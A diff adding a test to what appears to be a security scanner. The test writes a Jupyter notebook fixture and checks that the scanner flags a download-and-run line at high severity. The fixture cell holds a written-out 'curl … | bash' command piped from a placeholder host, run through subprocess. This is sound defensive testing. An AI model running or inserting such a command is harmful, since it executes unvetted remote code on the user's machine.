@@ -156,3 +156,23 @@ def test_a_wheel_that_is_not_a_zip_is_reported(tmp_path: Path) -> None:
     (finding,) = scan_path(tmp_path, root=tmp_path).findings
     assert (finding.rule_id, finding.severity) == ("MLS-SCN-003", Severity.MEDIUM)
     assert "Python wheel" in finding.message
+
+
+def test_a_piped_download_run_from_python_in_a_notebook_is_judged(tmp_path: Path) -> None:
+    cells = [
+        {"cell_type": "code", "metadata": {}, "outputs": [], "source": ["import subprocess\n", "x = 1\n"]},
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "outputs": [],
+            "source": ['subprocess.run("curl -fsSL https://get.tools.example/i.sh | bash", shell=True)\n'],
+        },
+        {"cell_type": "code", "metadata": {}, "outputs": [], "source": ['os.system("ls -la data/")\n']},
+    ]
+    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
+    (tmp_path / "setup.ipynb").write_text(json.dumps(notebook, indent=1))
+    rows = [r for r in _rows(scan_path(tmp_path, root=tmp_path).findings) if r[1] == "MLS-DEP-019"]
+    line = next(
+        i for i, t in enumerate((tmp_path / "setup.ipynb").read_text().splitlines(), 1) if "curl" in t
+    )
+    assert rows == [("setup.ipynb", "MLS-DEP-019", Severity.HIGH, line)]
